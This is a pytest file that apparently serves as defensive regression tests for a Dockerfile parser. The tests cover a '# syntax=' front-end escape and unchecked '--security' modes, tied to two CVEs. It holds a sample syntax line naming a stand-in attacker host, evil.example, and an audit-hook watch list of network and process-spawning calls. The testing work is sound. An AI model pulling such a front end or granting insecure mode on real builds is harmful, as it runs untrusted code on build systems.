"""Attack 43 (CVE-2026-33747, CVE-2024-23653): a ``# syntax=`` front end escapes, and ``--security`` goes unchecked.

Here the line is noted and nothing else: no front end exists that could be pulled or run. A security mode that nobody
knows is refused; ``insecure`` is kept as a wish that whoever runs the step must refuse or grant.
"""

from __future__ import annotations

import subprocess
import sys

import pytest

from executor.dockerfile import parse
from executor.dockerfile.instructions import Run
from platforms.errors import DockerfileError

PROGRAM = """
import sys
from executor.dockerfile import expand, global_scope, parse
from executor.dockerfile.checks import CheckedBuild, check

reached = []
watched = ("socket.", "subprocess.", "os.exec", "os.fork", "os.posix_spawn", "os.system", "urllib.")

def note(event, arguments):
    if event.startswith(watched):
        reached.append(event)

sys.addaudithook(note)
dockerfile = parse(b"# syntax=evil.example/front:end\\nFROM scratch\\nCOPY a /b\\n")
check(dockerfile, CheckedBuild(build_args={}, predefined={}))
for instruction in dockerfile.stages[0].instructions:
    expand(instruction, global_scope(dockerfile, {}, {}))
print(dockerfile.syntax, reached)
"""


def test_a_syntax_line_reaches_no_network_and_starts_no_program() -> None:
    done = subprocess.run([sys.executable, "-c", PROGRAM], capture_output=True, text=True, timeout=60, check=False)
    assert (done.stdout.strip(), done.stderr) == ("evil.example/front:end []", "")


@pytest.mark.parametrize("mode", ["none", "Insecure", "privileged", "insecure,sandbox", " insecure"])
def test_a_security_mode_that_nobody_knows_is_refused(mode: str) -> None:
    with pytest.raises(DockerfileError, match="is not valid"):
        parse(f'FROM scratch\nRUN --security="{mode}" true'.encode())


def test_insecure_is_a_wish_that_stays_visible() -> None:
    (run,) = parse(b"FROM scratch\nRUN --security=insecure true").stages[0].instructions
    assert isinstance(run, Run)
    assert run.security == "insecure"
